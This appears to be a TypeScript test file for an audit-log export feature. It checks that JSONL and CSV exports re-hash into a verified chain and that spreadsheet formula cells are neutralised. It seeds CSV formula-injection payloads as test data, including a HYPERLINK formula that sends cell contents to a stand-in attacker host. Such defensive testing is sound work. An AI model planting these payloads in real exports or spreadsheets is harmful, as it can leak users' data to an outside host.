// Scenario: an auditor downloads the trail with GET /api/audit/export, once as JSONL and once as
// CSV, and checks it away from Kairox. Every JSONL line is the event as GET /api/audit shows it;
// re-hashing each one with the chain's function links up from the genesis hash to the head Kairox
// reports. The CSV parses back to the same rows (and verifies the same way), and a cell a
// spreadsheet would run as a formula (=HYPERLINK(...), -1, @SUM(...)) arrives neutralised.
import { afterEach, expect, it } from 'vitest';
import { AuditLog, canonicalJson, GENESIS_HASH, hashEvent, type AuditEvent } from '../../src/audit/index.ts';
import { ManualClock } from '../../src/common/index.ts';
import { forWorkspace } from '../../src/db/index.ts';
import type { AuditEventInput } from '../../src/domain/index.ts';
import type { Kairox } from '../../src/main.ts';
import { parseCsv } from '../support/csv.ts';
import { describeEachEngine } from '../support/engines.ts';
import { setUp, startKairox, type SignedInClient } from '../support/kairox.ts';

const HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for your P&L")';
const CSV_COLUMNS = ['seq', 'id', 'occurredAt', 'actorType', 'actorId', 'action', 'targetType', 'targetId', 'requestId', 'data', 'prevHash', 'hash'];
/** More than two of the export's batches of 500, so the walk has to page. */
const BULK = 1_100;

/** The stored fields an exported event stands for, as hashEvent takes them. */
function chainedFields(workspaceId: string, e: { seq: number; id: string; occurredAt: string; actorType: string; actorId: string | null; action: string; targetType: string | null; targetId: string | null; requestId: string | null; data: string; prevHash: string }) {
  return {
    workspace_id: workspaceId, seq: e.seq, id: e.id, occurred_at: Date.parse(e.occurredAt), actor_type: e.actorType, actor_id: e.actorId, action: e.action,
    target_type: e.targetType, target_id: e.targetId, request_id: e.requestId, data: e.data, prev_hash: e.prevHash,
  };
}

/** Checks a chain offline: each hash re-computed, each event linked to the one before. */
function verifyOffline(workspaceId: string, events: Array<Parameters<typeof chainedFields>[1] & { hash: string }>): string {
  let prev = GENESIS_HASH;
  for (const [i, e] of events.entries()) {
    expect(e.seq, `event ${i}`).toBe(i + 1);
    expect(e.prevHash, `event ${e.seq}`).toBe(prev);
    expect(hashEvent(chainedFields(workspaceId, e)), `event ${e.seq}`).toBe(e.hash);
    prev = e.hash;
  }
  return prev;
}

const flat = (e: AuditEvent) => ({
  seq: e.seq, id: e.id, occurredAt: e.occurredAt, actorType: e.actor.type, actorId: e.actor.id, action: e.action,
  targetType: e.target?.type ?? null, targetId: e.target?.id ?? null, requestId: e.requestId, data: canonicalJson(e.data), prevHash: e.prevHash, hash: e.hash,
});

describeEachEngine('audit export', (engine) => {
  let kairox: Kairox | undefined;
  afterEach(async () => {
    await kairox?.close();
    kairox = undefined;
  });

  /** A workspace whose trail holds hostile text in data, ids and request ids, and enough events to page. */
  async function trail(): Promise<{ owner: SignedInClient; workspaceId: string }> {
    const clock = new ManualClock(Date.UTC(2026, 5, 15, 9, 30));
    kairox = await startKairox(engine, {}, { clock });
    const owner = await setUp(kairox);
    const workspaceId = ((await owner.request({ url: '/api/me' })).json() as { workspace: { id: string } }).workspace.id;
    // A token's name lands in its event's data; a caller's x-request-id in requestId.
    const created = await owner.request({ method: 'POST', url: '/api/tokens', payload: { name: HYPERLINK }, headers: { 'x-request-id': '-1' } });
    expect(created.statusCode, created.body).toBe(201);
    clock.advance(1_000);
    const log = new AuditLog(clock);
    const scope = forWorkspace(kairox.db, workspaceId);
    await log.append(scope, {
      action: 'connection.updated', actor: { type: 'user', id: '@SUM(A1:A9)' }, target: { type: 'connection', id: HYPERLINK }, requestId: "'already quoted",
      data: { note: 'quotes " commas , CRLF \r\n tab \t and ünïcödé', formula: '+1+2', nested: { list: [1, -2.5, null, true] } },
    });
    const bulk: AuditEventInput[] = Array.from({ length: BULK }, (_, n) => ({ action: 'auth.login_succeeded', actor: { type: 'user', id: `usr_${n}` }, data: { n } }));
    await log.appendMany(scope, bulk);
    return { owner, workspaceId };
  }

  it('exports JSONL: every event as GET /api/audit shows it, oldest first, re-hashing into the chain Kairox verifies', async () => {
    const { owner, workspaceId } = await trail();
    const response = await owner.request({ url: '/api/audit/export?format=jsonl' });
    expect(response.statusCode, response.body).toBe(200);
    expect(response.headers['content-type']).toMatch(/^application\/x-ndjson/);
    expect(response.headers['content-disposition']).toBe(`attachment; filename="kairox-audit-${workspaceId}-2026-06-15.jsonl"`);
    // Streamed as it is read, not assembled first: no content-length, chunked transfer.
    expect(response.headers['transfer-encoding']).toBe('chunked');
    expect(response.body.endsWith('\n')).toBe(true);
    const events = response.body.slice(0, -1).split('\n').map((line) => JSON.parse(line) as AuditEvent);

    const verdict = (await owner.request({ url: '/api/audit/verify' })).json() as { ok: boolean; checked: number; headHash: string };
    expect(verdict.ok).toBe(true);
    expect(events).toHaveLength(verdict.checked);
    expect(events.length).toBeGreaterThan(BULK);
    expect(verifyOffline(workspaceId, events.map(flat))).toBe(verdict.headHash);

    // The same objects as the list shows (newest first there), field for field.
    const page = ((await owner.request({ url: '/api/audit?limit=200' })).json() as { events: AuditEvent[] }).events;
    expect(events.slice(-200)).toEqual(page.reverse());
    const oldest = ((await owner.request({ url: `/api/audit?limit=200&before=${201}` })).json() as { events: AuditEvent[] }).events;
    expect(events.slice(0, 200)).toEqual(oldest.reverse());
    expect(events.find((e) => e.action === 'token.created')).toMatchObject({ requestId: '-1', data: { name: HYPERLINK } });

    // format defaults to jsonl; an unknown one is refused, naming the field.
    expect((await owner.request({ url: '/api/audit/export' })).body).toBe(response.body);
    const refused = await owner.request({ url: '/api/audit/export?format=xlsx' });
    expect(refused.statusCode).toBe(400);
    expect(refused.json()).toMatchObject({ error: { code: 'VALIDATION_FAILED', field: 'format' } });
  });

  it('exports CSV: fixed columns that parse back to the same rows, formula-like cells neutralised', async () => {
    const { owner, workspaceId } = await trail();
    const response = await owner.request({ url: '/api/audit/export?format=csv' });
    expect(response.statusCode, response.body).toBe(200);
    expect(response.headers['content-type']).toMatch(/^text\/csv/);
    expect(response.headers['content-disposition']).toBe(`attachment; filename="kairox-audit-${workspaceId}-2026-06-15.csv"`);
    const [header, ...rows] = parseCsv(response.body);
    expect(header).toEqual(CSV_COLUMNS);

    // No cell starts the way a spreadsheet formula does.
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    const hostile = rows.find((row) => row[5] === 'connection.updated')!;
    expect(hostile[4]).toBe("'@SUM(A1:A9)");
    expect(hostile[7]).toBe(`'${HYPERLINK}`);
    expect(hostile[8]).toBe("''already quoted");
    const token = rows.find((row) => row[5] === 'token.created')!;
    expect(token[8]).toBe("'-1");
    // In data the formula sits inside the JSON text, whose first character is "{".
    expect(JSON.parse(token[9]!)).toMatchObject({ name: HYPERLINK });

    // Removing one leading apostrophe gives the values back: the same rows as the JSONL export.
    const jsonl = (await owner.request({ url: '/api/audit/export?format=jsonl' })).body.trim().split('\n').map((line) => flat(JSON.parse(line) as AuditEvent));
    const restored = rows.map((row) => row.map((cell) => (cell.startsWith("'") ? cell.slice(1) : cell)));
    expect(restored).toEqual(jsonl.map((e) => CSV_COLUMNS.map((c) => {
      const value = e[c as keyof typeof e];
      return value === null ? '' : String(value);
    })));

    // And the CSV alone verifies: data is the canonical text the hash covers.
    const fromCsv = restored.map(([seq, id, occurredAt, actorType, actorId, action, targetType, targetId, requestId, data, prevHash, hash]) => ({
      seq: Number(seq), id: id!, occurredAt: occurredAt!, actorType: actorType!, actorId: actorId || null, action: action!,
      targetType: targetType || null, targetId: targetId || null, requestId: requestId || null, data: data!, prevHash: prevHash!, hash: hash!,
    }));
    expect(verifyOffline(workspaceId, fromCsv)).toBe(((await owner.request({ url: '/api/audit/verify' })).json() as { headHash: string }).headHash);
  });
});
